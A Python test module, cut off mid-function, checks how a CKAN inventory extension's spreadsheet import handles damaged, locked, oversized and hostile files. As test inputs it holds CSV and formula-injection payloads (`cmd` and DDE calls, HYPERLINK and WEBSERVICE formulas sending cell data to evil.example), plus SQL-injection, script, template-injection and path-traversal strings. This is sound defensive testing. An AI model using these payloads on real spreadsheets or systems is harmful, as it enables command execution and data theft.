"""More than two hundred broken files: what each is told, in one clear message, and nothing changes.

A broken file is either refused, by one message that says what is wrong and what to do, or it can be read
in part; then the preview tells of everything that differs from what is stored. Which of both is right
follows from how a file is broken: each kind of files below says its rule.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import itertools
import json
import random
import re
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import ckan.plugins.toolkit as tk
import openpyxl
import pytest
import sqlalchemy as sa
from ckan import model

from ckanext.inventory.model import Record, Revision
from ckanext.inventory.spreadsheets import returned, stamp
from ckanext.inventory.spreadsheets.reader import Sheet, letter, text
from tests.logic.city import City, make_city
from tests.logic.returning import (
    add,
    cells,
    column,
    content,
    download,
    opened,
    preview,
    put,
    save,
    saved,
)
from tests.logic.xls_files import (
    FIRST_DIRECTORY,
    FIRST_TABLE,
    compound_file,
    dimensions,
    error,
    error_of_formula,
    label,
    xls,
)


@pytest.fixture
def city(db: None) -> City:
    city = make_city()
    for title in ("Trees", "Benches", "Lamps"):
        city.entry(title=title, notes="one")
    city.do(city.coordinator, "inventory_source_create", title="System", owner_org=city.parks.id)
    city.entry(city.neighbour, title="Pipes", owner_org=city.water.id)
    return city


# What comes of a file


@dataclasses.dataclass(frozen=True)
class Answer:
    """What somebody who brings a file is told: one message, or a preview."""

    message: str = ""
    found: dict[str, Any] = dataclasses.field(default_factory=dict)

    @property
    def counts(self) -> dict[str, int]:
        """What is counted, without what there is none of."""
        return {name: count for name, count in self.found["counts"].items() if count}


Check = Callable[[Answer], None]
Broken = Iterator[tuple[str, str, bytes, Check]]


def bring(city: City, data: bytes, filename: str, **choices: Any) -> Answer:
    """Bring a file to the parks department."""
    choices = {"department": "parks", "now": True, **choices}
    try:
        found = city.do(
            city.coordinator, "inventory_import_preview", upload=data, filename=filename, **choices
        )
    except tk.ValidationError as error:
        ((where, (message,)),) = error.error_dict.items()
    else:
        return Answer(found=found)
    assert where == "upload"
    # What is wrong and what to do, in words.
    assert re.fullmatch(r"[A-Z][a-z]* .*\.", message), message
    assert not re.search(r"Traceback|Error|Exception|None|%\(|[{}<>]|0x", message), message
    return Answer(message)


def refused(words: str) -> Check:
    def check(answer: Answer) -> None:
        assert words in answer.message, answer

    return check


DAMAGED = "It may be damaged; open it in a spreadsheet program and save it again."
DAMAGED_JSON = "it is damaged, or was cut off. Download it again"
NO_ROWS = "holds no rows below its headers, so that there is nothing to save. Fill in a row"
NO_TABLE = "neither a spreadsheet (XLSX, ODS) nor a text table (CSV). Save it as one."
OTHER_DOCUMENT = "a document of another kind or an archive. Open it in the program that it is from"
OTHER_JSON = "JSON, but no workbook of this inventory. Download one from here"
LOCKED = "The file is locked with a password. Save it without one."
OTHERS = (
    "workbook of another department, or of another inventory. Download yours and copy your rows"
)


def intact(answer: Answer) -> None:
    """What was damaged says nothing about any record: everything is read, and nothing differs."""
    assert not answer.message
    assert answer.counts == {"read": 4, "unchanged": 4}
    assert [answer.found[name] for name in ("problems", "notes", "rows")] == [[], [], []]


def intact_or_refused(answer: Answer) -> None:
    refused(DAMAGED)(answer) if answer.message else intact(answer)


def told(answer: Answer, sheet: str, row: int | None, header: str = "") -> list[str]:
    """What is said of a cell, or of a row or sheet: problems, and changes that are shown."""
    found = [
        problem["message"]
        for problem in answer.found["problems"]
        if (problem["sheet"], problem["row"]) == (sheet, row)
        and (not header or problem["column"] == header)
    ]
    for shown in answer.found["rows"]:
        if shown["where"] == f"{sheet}!{row}":
            found += [
                cell["outcome"]
                for cell in shown["cells"]
                if cell["outcome"] != "unchanged" and (not header or cell["label"] == header)
            ]
    return found


def only_problem(sheet: str, row: int | None, header: str, words: str) -> Check:
    """A problem that names sheet, row and column is all that is told; no cell would go in."""

    def check(answer: Answer) -> None:
        assert not answer.message
        (problem,) = answer.found["problems"]
        assert (problem["sheet"], problem["row"], problem["column"]) == (sheet, row, header)
        assert words in problem["message"]
        assert not answer.found["can_save"]

    return check


# Kinds of files


def cut(city: City) -> Broken:
    """A workbook that was cut off is refused: nobody can tell what is lacking."""
    for kind, message in (("xlsx", DAMAGED), ("json", DAMAGED_JSON)):
        data = download(city, format=kind)
        for part in range(1, 25):
            short = data[: len(data) * part // 25]
            yield f"{kind} cut at {part}/25", f"x.{kind}", short, refused(message)


def cut_texts(city: City) -> Broken:
    """A text that was cut off is a shorter text. It says which rows it lacks, and that it ends amid one."""
    data = download(city, format="csv")
    lines = data.splitlines(keepends=True)
    borders = [sum(map(len, lines[: count + 1])) for count in range(len(lines))]
    parts = {len(data) * part // 25 for part in range(1, 25)}
    parts |= {border + more for border in borders[:-1] for more in (-2, 0, 4, 11, 40, 70, 160)}
    for position in sorted(part for part in parts if part < len(data) - 2):
        rest = data[:position]
        yield f"csv cut at {position}", "x.csv", rest, _cut_text(rest, lines)


def _fields(line: bytes | str) -> list[str]:
    written = line if isinstance(line, str) else line.decode("utf-8-sig")
    return next(csv.reader([written])) or [""]


def _cut_text(rest: bytes, lines: Sequence[bytes]) -> Check:
    whole = rest.decode("utf-8-sig").replace("\r", "").split("\n")
    complete, last = whole[1:-1], whole[-1]
    if len(whole) == 1 or not (complete or last):
        return refused(NO_ROWS)
    headers, left = _fields(lines[0]), _fields(last)
    shown = len(headers) - 1
    original = _fields(lines[len(complete) + 1]) if last else left
    lost = bool(last) and len(left) < shown
    halved = len(left) <= shown and left[-1] != original[len(left) - 1]
    row = len(complete) + 2
    numbers = len(complete) + (left[0] == original[0] != "")

    def check(answer: Answer) -> None:
        assert not answer.message
        assert answer.counts.get("missing", 0) == 3 - numbers
        assert answer.counts.get("unchanged", 0) >= len(complete)
        if lost:
            assert any("cut off" in note for note in answer.found["notes"])
        if halved and left[-1] and headers[len(left) - 1] != "Waits for":
            # What the cell was cut to is no longer what it says.
            assert told(answer, "", row), (left[-1], original)
        if not (lost or halved):
            assert not answer.found["problems"]
            assert answer.counts["unchanged"] == numbers

    return check


def scrambled(city: City) -> Broken:
    """A workbook with wrong bytes is refused, unless nothing that counts is among them."""
    chance = random.Random(5)
    data = download(city)
    for number in range(20):
        found = bytearray(data)
        for _ in range(20):
            # Whatever doesn't begin like a workbook is none at all.
            found[chance.randrange(4, len(found))] ^= chance.randrange(1, 256)
        yield f"xlsx scrambled {number}", "x.xlsx", bytes(found), refused(DAMAGED)
    for number in range(30):
        found = bytearray(data)
        found[chance.randrange(4, len(found))] ^= 1 << chance.randrange(8)
        yield f"xlsx with a wrong bit {number}", "x.xlsx", bytes(found), intact_or_refused


def scrambled_texts(city: City) -> Broken:
    """A text with wrong letters is refused, or shows what they make of each cell."""
    chance = random.Random(7)
    data = download(city, format="json")
    letters = [at for at in range(len(data)) if chr(data[at]).isalnum()]
    for number in range(30):
        found = bytearray(data)
        for _ in range(4):
            found[chance.choice(letters)] = ord("z")
        yield f"json scrambled {number}", "x.json", bytes(found), _shows_all(data, bytes(found))
    # Each cell that holds something, and the header above it, with one wrong letter.
    book = json.loads(data)
    (sheet,) = (sheet for sheet in book["sheets"] if sheet["name"] == "Datasets")
    filled = [index for index in range(len(sheet["columns"])) if sheet["rows"][0][index]]
    for index in filled:

        def header(sheet: dict[str, Any], index: int = index) -> None:
            sheet["columns"][index]["header"] = f"z{sheet['columns'][index]['header'][1:]}"

        typo = changed(city, header)
        yield f"json with a typo in header {index}", "x.json", typo, _shows_all(data, typo)
        for row in range(3):

            def cell(sheet: dict[str, Any], row: int = row, index: int = index) -> None:
                set_cell(sheet, row, index, f"{sheet['rows'][row][index][:-1]}z")

            typo = changed(city, cell)
            check = _shows_all(data, typo)
            yield f"json with a typo in row {row}, column {index}", "x.json", typo, check


def _shows_all(before: bytes, after: bytes) -> Check:
    def sheets(data: bytes) -> dict[str, Sheet]:
        source = returned.read_json(data, "x.json")
        assert source is not None
        return {sheet.name: sheet for sheet in source.sheets}

    def check(answer: Answer) -> None:
        if answer.message:
            assert any(words in answer.message for words in (DAMAGED_JSON, OTHER_JSON, OTHERS))
            return
        new = sheets(after)
        for old, renamed in zip(sheets(before).values(), new, strict=True):
            assert len(old.rows) == len(new[renamed].rows)
            for (number, was), (_, now) in zip(old.rows, new[renamed].rows, strict=True):
                for index, cell in enumerate(now):
                    if cell != was[index]:
                        is_told(answer, number, index, old, new[renamed])

    def is_told(answer: Answer, number: int, index: int, old: Sheet, new: Sheet) -> None:
        sheet = new.name
        header = text(old.rows[0][1][index])
        hidden = index == len(old.rows[0][1]) - 1
        if number > 1:
            # Whose turn it is follows from the state; and nobody sees what a row was downloaded as.
            if not hidden and header != "Waits for":
                assert told(answer, sheet, number), (sheet, number, header)
        elif hidden:
            was, now = (stamp.decode(text(rows[0][1][-1])) for rows in (old.rows, new.rows))
            if now is None or now.sheet != was.sheet:
                assert told(answer, sheet, None), sheet
            elif now.schema != was.schema:
                assert any("have changed since" in note for note in answer.found["notes"])
        elif any(text(row[index]) for _, row in old.rows[1:]):
            unknown = [item for item in answer.found["unknown"] if item["sheet"] == sheet]
            assert unknown or told(answer, sheet, None), (sheet, header)

    return check


def of_other_kinds(city: City) -> Broken:
    """What is no table is refused by a message that says what it is instead."""
    heads: dict[str, tuple[bytes, str]] = {
        "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, NO_TABLE),
        "jpeg": (b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(range(255, 0, -1)) * 4, NO_TABLE),
        "pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 4, NO_TABLE),
        "pdf of words": (b"%PDF-1.7\n1 0 obj\n<< /Title (Name, Kind) >>\nendobj\n" * 99, NO_TABLE),
        "exe": (b"MZ" + bytes(range(256)) * 8, NO_TABLE),
        "gzip": (b"\x1f\x8b\x08\0" + bytes(range(256)) * 8, NO_TABLE),
        "zip": (zipped({"readme.txt": b"hello"}), OTHER_DOCUMENT),
        "docx": (
            zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
            OTHER_DOCUMENT,
        ),
        "odt": (
            zipped(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.text",
                    "content.xml": b"<office/>",
                }
            ),
            OTHER_DOCUMENT,
        ),
        "doc": (compound_file("WordDocument", "1Table"), OTHER_DOCUMENT),
        "msg": (compound_file("__properties_version1.0"), OTHER_DOCUMENT),
        "ole": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), DAMAGED),
        "a zip's first bytes": (b"PK\x03\x04 and nothing more", DAMAGED),
        "empty": (b"", "The file is empty."),
        "blank": (b" \r\n\t\r\n", "The file is empty."),
        "nul": (bytes(5000), "The file is empty."),
        "html": (b"<html><body><table><tr><td>Name</td></tr></table></body></html>", "a web page"),
        "xml": (b'<?xml version="1.0"?><Workbook/>', "a web page or XML"),
        "json-list": (b"[1, 2, 3]", "No column holds the name"),
        "json-other": (b'{"a": 1}', OTHER_JSON),
        "json-deep": (b'{"sheets": ' + b"[" * 2000 + b"]" * 2000 + b"}", DAMAGED_JSON),
        "json-words": (b'{"sheets": "x"}', OTHER_JSON),
        "json-none": (b'{"sheets": []}', "holds no filled cells"),
        "json-sheets": (b'{"sheets": [{"name": "x"}]}', OTHER_JSON),
        "json-rows": (
            b'{"sheets": [{"name": "x", "columns": [], "stamp": "", "rows": 5}]}',
            OTHER_JSON,
        ),
        "one word": (b"hello", "No column holds the name"),
        "headers": (b"Name,Description,Source\r\n", NO_ROWS),
        "headers below a title": (b"Parks\r\n\r\nName,Description,Source\r\n", NO_ROWS),
        "a workbook without cells": (saved(openpyxl.Workbook()), "holds no filled cells"),
    }
    for name, (data, message) in heads.items():
        yield name, "x.xlsx", data, refused(message)
    letter = "Dear all,\n\nplease find our list below.\n".encode("utf-16")
    # Somebody may still say which column holds the name.
    yield "a letter", "x.csv", letter, only_problem("", None, "", "No column holds the name")
    # The content says what a file is, and not its name.
    for ending in ("csv", "ods", "json", "xls", ""):
        yield f"pdf as {ending}", f"x.{ending}", heads["pdf"][0], refused(NO_TABLE)


def without_rows(city: City) -> Broken:
    """A form of ours that nobody filled in has nothing to save, and is told so."""
    hidden = openpyxl.Workbook()
    hidden.active.append(["Name", "Description"])
    hidden.create_sheet("All").append(["Name"])
    hidden["All"].append(["Ponds"])
    hidden["All"].sheet_state = "hidden"
    message = refused("If your rows are on a hidden sheet, show it and save the file first.")
    yield "rows on a hidden sheet", "x.xlsx", saved(hidden), message
    for kind in ("xlsx", "csv", "json"):
        data = download(city, format=kind, empty=True)
        yield f"an empty form as {kind}", f"x.{kind}", data, refused(NO_ROWS)


def zipped(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return stream.getvalue()


def locked(city: City) -> Broken:
    """A password is told as one, however the program keeps what it locks."""
    yield (
        "locked by Excel",
        "x.xlsx",
        compound_file("EncryptedPackage", "EncryptionInfo"),
        refused(LOCKED),
    )
    manifest = b"<manifest:manifest><manifest:encryption-data/></manifest:manifest>"
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    parts = {
        "mimetype": mimetype,
        "content.xml": bytes(range(256)),
        "META-INF/manifest.xml": manifest,
    }
    yield "locked by LibreOffice", "x.ods", zipped(parts), refused(LOCKED)
    data = bytearray(download(city))
    for mark, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        for position in [found.start() for found in re.finditer(re.escape(mark), data)]:
            data[position + flags] |= 1
    yield "locked by a ZIP program", "x.xlsx", bytes(data), refused(LOCKED)


def old_excel(city: City) -> Broken:
    """An XLS has no checksums. One that leads its reader astray is refused before it is opened."""
    good = [label(0, 0, "Name"), label(0, 1, "Description"), label(1, 0, "Ponds")]
    data = xls(good)
    for part in range(1, 10):
        yield f"xls cut at {part}/10", "x.xls", data[: len(data) * part // 10], refused(DAMAGED)

    def patched(at: int, *numbers: int) -> bytes:
        return (
            data[:at] + struct.pack(f"<{len(numbers)}I", *numbers) + data[at + 4 * len(numbers) :]
        )

    for name, broken in {
        "a directory without an end": patched(FIRST_TABLE + 4, 1),
        "a directory that leads into the stream and back": patched(FIRST_TABLE + 4, 2, 1),
        "a directory beyond the end": patched(48, 99),
        "a stream without an end": patched(FIRST_TABLE + 8, 2),
        "a stream longer than the file": patched(FIRST_DIRECTORY + 128 + 120, 0x7FFFFFFF),
        "a table longer than the file": patched(44, 0x7FFFFFFF),
        "a table of small streams longer than the file": patched(64, 0x7FFFFFFF),
        "a list of tables without an end": patched(68, 3, 1)[: 512 * 5]
        + struct.pack("<128I", *[3] * 128),
        "no such sectors": patched(28, 0x0014FFFE),
        "a sheet beyond the end": xls(good, sheet_at=1_000_000),
        "a sheet in the middle of a record": xls(good, sheet_at=3),
        "four thousand million rows": xls([dimensions(0xFFFFFFFF, 0xFFFF), *good]),
        "a sheet that spans too much": xls([dimensions(65_536, 0xFFFF), *good]),
        "a record that never ends": xls([*good, b"\x04\x02\xff\xff"]),
    }.items():
        yield f"xls with {name}", "x.xls", broken, refused(DAMAGED)
    far = refused("filled cells as far away as row 65536, column 256. Delete what stands outside")
    yield "xls with a far cell", "x.xls", xls([*good, label(65_535, 255, "x")]), far
    wide = refused('Sheet "List" has 601 columns; at most 500 are read.')
    yield "xls with a cell far to the right", "x.xls", xls([*good, label(1, 600, "x")]), wide
    password = refused(LOCKED)
    yield "xls with a password", "x.xls", data.replace(b"\x85\0", b"\x2f\0", 1), password
    chance = random.Random(9)

    def shown(answer: Answer) -> None:
        # It is somebody's list: whatever it says can be seen, and nothing is saved by itself.
        assert answer.message or answer.found["ours"] is False

    for number in range(20):
        found = bytearray(data)
        for _ in range(5):
            found[chance.randrange(8, len(data) - 3_000)] = chance.randrange(256)
        yield f"xls scrambled {number}", "x.xls", bytes(found), shown


def odd_packages(city: City) -> Broken:
    """Rows are counted wherever a package has them; a binary workbook is named as what it is."""
    with zipfile.ZipFile(io.BytesIO(download(city))) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    sheet = parts.pop("xl/worksheets/sheet3.xml").replace(
        b"</sheetData>",
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    )
    links = "xl/_rels/workbook.xml.rels"
    parts[links] = parts[links].replace(b"worksheets/sheet3.xml", b"styles2.xml")
    yield (
        "a far cell in a sheet with another name",
        "x.xlsx",
        zipped({**parts, "xl/styles2.xml": sheet}),
        refused("filled cells as far away as row 1048576, column 16384."),
    )
    yield (
        "a binary workbook",
        "x.xlsb",
        zipped({"xl/workbook.bin": b"", "xl/worksheets/sheet1.bin": b""}),
        refused("The file is a binary workbook (XLSB). Save it as XLSX."),
    )


def damaged_parts(city: City) -> Broken:
    """Packages that unpack, with parts that don't hold what they should.

    Without the sheets, or the list of them, nothing is understood; other parts hold no records.
    """
    with zipfile.ZipFile(io.BytesIO(download(city))) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    for name, part in parts.items():
        if not name.endswith(".xml"):
            continue
        for words, broken in (
            ("of an encoding that nobody knows", part.replace(b"UTF-8", b"UTF-99", 1)),
            ("cut", part[: len(part) // 2]),
            ("empty", b""),
        ):
            needed = "/sheet" in name or ("workbook" in name and "UTF-99" not in str(broken[:99]))
            check = refused(DAMAGED) if needed else intact_or_refused
            yield f"{name} {words}", "x.xlsx", zipped({**parts, name: broken}), check


def changed(city: City, change: Callable[[dict[str, Any]], Any]) -> bytes:
    """The department's workbook in JSON, with something changed in its datasets."""
    book = json.loads(download(city, format="json").decode("utf-8-sig"))
    change(next(sheet for sheet in book["sheets"] if sheet["name"] == "Datasets"))
    return json.dumps(book).encode()


def hostile_cells(city: City) -> Broken:
    """A number that lies is told by sheet, row and column, and gains nothing."""
    told_so = "A number can't be changed: the row stays what it was."
    numbers: dict[Any, str] = {
        "=cmd|' /C calc'!A0": told_so,
        "PARKS-9999": told_so,
        "PARKS-S001": told_so,
        "WATER-0001": told_so,
        "parks-0002": "The number stands in row 3, too. Keep one of them",
        " PARKS-0002\n": "The number stands in row 3, too. Keep one of them",
        "x" * 5000: told_so,
        "' OR 1=1 --": told_so,
        "<script>alert(1)</script>": told_so,
        "{{ 7*7 }}": told_so,
        "../../etc/passwd": told_so,
        "PARKS-0001\nPARKS-0002": told_so,
        -1: told_so,
        10**300: told_so,
    }
    for number, message in numbers.items():
        data = changed(city, lambda sheet, number=number: set_cell(sheet, 0, 0, number))
        check = only_problem("Datasets", 2, "Number", message)
        yield f"the number {str(number)[:30]}", "x.json", data, check
    book = opened(download(city))
    book["Datasets"].cell(2, 1).value = "=cmd|' /C calc'!A0"
    book["Datasets"].cell(2, 1).data_type = "s"
    yield "a number as text", "x.xlsx", saved(book), only_problem("Datasets", 2, "Number", told_so)
    unknown = "There is no record with this number, or none that you may see."
    for number in ("WATER-0001", "PARKS-9999", "PARKS-S001"):
        data = changed(city, lambda sheet, number=number: sheet["rows"].append([number, "More"]))
        check = only_problem("Datasets", 5, "Number", unknown)
        yield f"a row more with {number}", "x.json", data, check
    for number in ("WATER-0001", "PARKS-S001", "PARKS-9999"):
        token = f"{number}@1@@@"
        data = changed(city, lambda sheet, token=token: set_cell(sheet, 0, -1, token))
        check = only_problem("Datasets", 2, "Number", unknown)
        yield f"a row that says it was {number}", "x.json", data, check


def set_cell(sheet: dict[str, Any], row: int, index: int, value: Any) -> None:
    sheet["rows"][row][index] = value


def hostile_stamps(city: City) -> Broken:
    """A sheet that doesn't say what it is isn't read, and is told; whatever else it says grants nothing."""
    for words in (
        "inventory/1",
        "inventory/1 sheet=nothing",
        "inventory/1 sheet=%00",
        "inventory/2 sheet=inventory_entry",
        "=inventory/1 sheet=inventory_entry",
        "x" * 30_000,
    ):
        data = changed(city, lambda sheet, words=words: sheet.update(stamp=words))
        check = only_problem("Datasets", None, "", "wasn't read: its hidden last column is missing")
        yield f"stamp {words[:40]}", "x.json", data, check

    def harmless(answer: Answer) -> None:
        assert answer.counts == {"read": 5, "unchanged": 4, "new": 1, "new_cells": 1}
        (note,) = answer.found["notes"]
        assert 'The columns of "Datasets" have changed since this file was downloaded.' in note
        assert answer.found["departments"] == [city.parks.id]

    for claims in (
        "department=%00",
        f"department={city.water.id}",
        "department=" + "x" * 3000,
        f"part={'9' * 40}",
        "at=never by=nobody language=xx",
        "at=9999-12-31T23%3A59%3A59%2B00%3A00",
    ):
        said = f"inventory/1 sheet=inventory_entry schema=0 {claims}"

        def more(sheet: dict[str, Any], said: str = said) -> None:
            sheet["stamp"] = said
            sheet["rows"].append([None, "More"])

        yield f"stamp {claims[:40]}", "x.json", changed(city, more), harmless


def hostile_tokens(city: City) -> Broken:
    """Whatever a row says it was, each cell that differs from what is stored is shown."""

    def shown(answer: Answer) -> None:
        assert answer.counts["read"] == 4
        assert answer.counts["changed"] == answer.counts["changed_cells"] == 1
        found = {key for key, outcome in cells(answer.found).items() if outcome != "unchanged"}
        assert found == {("PARKS-0001", "notes")}
        assert not answer.found["problems"]

    for token in (
        "PARKS-0001@99@@@",
        "PARKS-0001@0@@@",
        "PARKS-0001@999999999@@@",
        "PARKS-0001@1@zz@@",
        "PARKS-0002@1@@@",
        "@@@@",
        "x" * 9000,
        "PARKS-0001@1@@%00,%00,%00,%00@@",
        "=1+1",
        None,
        7,
    ):

        def both(sheet: dict[str, Any], token: Any = token) -> None:
            set_cell(sheet, 0, -1, token)
            set_cell(sheet, 0, 4, "two")

        yield f"token {str(token)[:30]}", "x.json", changed(city, both), shown


def hostile_texts(city: City) -> Broken:
    """JSON holds what no cell can: nothing of it gets further than the row that says so."""
    data = download(city, format="json")
    for name, value in {
        "half a character": '"\\ud83d"',
        "a nul": '"a\\u0000b"',
        "a control character": '"a\\u001bb"',
        "not a number": "NaN",
        "infinity": "-Infinity",
        "a number beyond all": "1e999",
        "a long number": "9" * 4000,
        "a list": '["a", ["b"]]',
        "an object": '{"a": {"b": 1}}',
        "true": "true",
        "a long text": f'"{"x" * 40_000}"',
        "a text for a whole file": f'"{"x" * 2_000_000}"',
    }.items():
        broken = data.replace(b'"The department", "one"', b'"The department", ' + value.encode(), 1)
        assert broken != data

        def is_shown(answer: Answer) -> None:
            assert not answer.message
            # The first is the source's, whose description is empty.
            assert told(answer, "Datasets", 2, "Description"), answer.found["rows"]
            assert len(answer.found["problems"]) <= 1

        yield f"{name} in JSON", "x.json", broken, is_shown


def twice(city: City) -> Broken:
    """What is there twice is told once for each time too many, and where the other one is."""
    book = opened(download(city))
    book.copy_worksheet(book["Datasets"])
    yield "the sheet twice", "x.xlsx", saved(book), refused('"Datasets" is there twice. Keep one')
    book = opened(download(city))
    rows = [add(book, "Datasets", Number="PARKS-0001", Name="Trees") for _ in range(3)]

    def each(answer: Answer) -> None:
        found = answer.found["problems"]
        assert [(item["row"], item["column"]) for item in found] == [
            (row, "Number") for row in rows
        ]
        assert {item["message"] for item in found} == {
            "The number stands in row 2, too. Keep one of them, or leave the number empty to add a "
            "new record."
        }
        assert answer.counts["held"] == 3

    yield "a number four times", "x.xlsx", saved(book), each


def other_departments(city: City) -> Broken:
    """Another department's workbook is refused, whoever took it and whatever it says it is."""
    for user in (city.neighbour, city.cdo, city.sysadmin):
        for kind in ("xlsx", "csv", "json"):
            data = download(city, user, department="water", format=kind)
            yield f"water's {kind} by {user.name}", f"x.{kind}", data, refused(OTHERS)
    for code in ("HARBOR", "ZZ"):
        data = download(city, format="json").replace(b"PARKS-", f"{code}-".encode())
        elsewhere = data.replace(city.parks.id.encode(), b"00000000-0000-4000-8000-000000000000")
        yield f"the workbook of another inventory, {code}", "x.json", elsewhere, refused(OTHERS)


def old_templates(city: City) -> Broken:
    """Of an old template, what is still understood is read; a column that it lacks empties nothing."""
    book = json.loads(download(city, format="json").decode("utf-8-sig"))
    (columns,) = (sheet["columns"] for sheet in book["sheets"] if sheet["name"] == "Datasets")
    headers = [item["header"] for item in columns]
    for header in [*headers[1:], "An old column"]:
        known = header in headers

        def older(sheet: dict[str, Any], header: str = header, known: bool = known) -> None:
            sheet["stamp"] = re.sub(r"schema=\S+", "schema=0", sheet["stamp"])
            index = headers.index(header) if known else 3
            if not known:
                sheet["columns"].insert(index, {"key": "old", "header": header})
            else:
                del sheet["columns"][index]
            for row in sheet["rows"]:
                row[index : index + known] = [] if known else ["something"]

        def check(answer: Answer, header: str = header, known: bool = known) -> None:
            assert not answer.message
            assert answer.found["notes"] == [
                'The columns of "Datasets" have changed since this file was downloaded. What is still '
                "understood is read."
            ]
            assert answer.counts["unchanged"] == answer.counts["read"] == 4
            assert not answer.found["problems"]
            strange = [item["column"] for item in answer.found["unknown"]]
            assert strange == ([] if known else [header])

        words = "without" if known else "with"
        yield f"an old template {words} {header}", "x.json", changed(city, older), check
    old = opened(download(city))
    sheet = old["Datasets"]
    stamped = sheet.cell(1, sheet.max_column)
    stamped.value = re.sub(r"schema=\S+", "schema=0", stamped.value)
    sheet.delete_cols(column(old, "Datasets", "Name"))
    put(old, "Datasets", "PARKS-0001", Value="Hgh")

    def both(answer: Answer) -> None:
        assert "have changed since this file was downloaded" in answer.found["notes"][0]
        only_problem("Datasets", 2, "Value", "It is none of the values: High, Medium, Low")(answer)

    yield "an old template, and a typo", "x.xlsx", saved(old), both


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML("http://evil.example/", "//a")',
    "\t=1+1",
    "=1+1",
]


def formulas(city: City) -> Broken:
    """Of a formula its result is read; one without is told. A text that looks like one is a text."""
    data = download(city)
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    name = "xl/worksheets/sheet3.xml"
    for formula in FORMULAS:
        escaped = formula.lstrip("=+@\t").replace("&", "&amp;").encode()
        for words, cell in (
            ("with its result", b' t="str"><f>' + escaped + b"</f><v>its result</v></c>"),
            ("without a result", b"><f>" + escaped + b"</f></c>"),
        ):
            broken, count = re.subn(
                rb'(<c r="E2"(?: s="\d+")?) t="inlineStr"><is>.*?</is></c>',
                lambda found, cell=cell: found.group(1) + cell,
                parts[name],
            )
            assert count == 1

            def result(answer: Answer, words: str = words) -> None:
                (shown,) = (cell for row in answer.found["rows"] for cell in row["cells"])
                with_result = words == "with its result"
                assert (shown["key"], shown["file"]) == (
                    "notes",
                    "its result" if with_result else "",
                )
                assert len(answer.found["notes"]) == (not with_result)
                assert with_result or "One formula has no stored result" in answer.found["notes"][0]

            yield f"{formula} {words}", "x.xlsx", zipped({**parts, name: broken}), result
        book = opened(data)
        put(book, "Datasets", "PARKS-0001", Description=formula)
        book["Datasets"].cell(2, column(book, "Datasets", "Description")).data_type = "s"

        def same(answer: Answer, formula: str = formula) -> None:
            (shown,) = (cell for row in answer.found["rows"] for cell in row["cells"])
            assert (shown["key"], shown["file"]) == ("notes", formula.strip())

        yield f"{formula} as text", "x.xlsx", saved(book), same


def test_what_looks_like_a_formula_never_runs(city: City) -> None:
    """It is stored as the text that it is, and every file that holds it says that it is a text."""
    book = opened(download(city))
    for number, formula in enumerate(FORMULAS):
        row = add(book, "Datasets", Name=f"{formula} {number}", Description=formula)
        for header in ("Name", "Description"):
            book["Datasets"].cell(row, column(book, "Datasets", header)).data_type = "s"
    found = preview(city, book)
    save(city, found)
    numbers = [f"PARKS-{number:04}" for number in range(4, 4 + len(FORMULAS))]
    texts = [formula.strip() for formula in FORMULAS]
    assert [content(city, number)["notes"] for number in numbers] == texts
    data = download(city)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            assert not re.search(rb"<f[ >]|<hyperlink|<ddeLink|externalLink", part), name
    rows = list(opened(data)["Datasets"].iter_rows(min_row=5, max_col=5))
    assert [(row[1].data_type, row[4].data_type) for row in rows[: len(texts)]] == (
        [("s", "s")] * len(texts)
    )
    lines = list(csv.reader(io.StringIO(download(city, format="csv").decode("utf-8-sig"))))
    assert [line[1][0] for line in lines[4:]] == ["'"] * len(texts)
    assert [line[4] for line in lines[4:]] == [f"'{formula}" for formula in texts]


# Large files


def blank_cells(rows: int, columns: int, first: int, *, say_where: bool) -> Iterator[bytes]:
    """Rows of cells that have a format and hold nothing, as XLSX has them."""
    where = b' r="%s#"' if say_where else b"%.0s"
    row = b'<row r="#">' + b"".join(
        b"<c" + where % letter(index).encode() + b' s="1"/>' for index in range(columns)
    )
    row += b"</row>"
    for number in range(first, first + rows):
        yield row.replace(b"#", b"%d" % number)


def with_rows(data: bytes, more: Iterator[bytes]) -> bytes:
    """A workbook with more rows below those of its datasets."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for name in old.namelist():
            before, end, after = old.read(name).partition(b"</sheetData>")
            with new.open(name, "w") as part:
                part.write(before)
                if name.endswith("sheet3.xml"):
                    for rows in iter(lambda: b"".join(itertools.islice(more, 1_000)), b""):
                        part.write(rows)
                part.write(end + after)
    return stream.getvalue()


def bombs(city: City) -> Broken:
    """Small files that unpack to large ones are refused by the limit that they exceed, which is named.

    Blank cells count for nothing, however many there are.
    """
    data = download(city)
    spaces = itertools.repeat(b" " * 10_000_000, 40)
    limit = refused("The file unpacks to more than 300 MB. Split it into parts, or copy its rows")
    yield "zip bomb", "x.xlsx", with_rows(data, spaces), limit
    filled = (
        row.replace(b"/>", b"><v>1</v></c>") for row in blank_cells(4_200, 500, 900, say_where=True)
    )
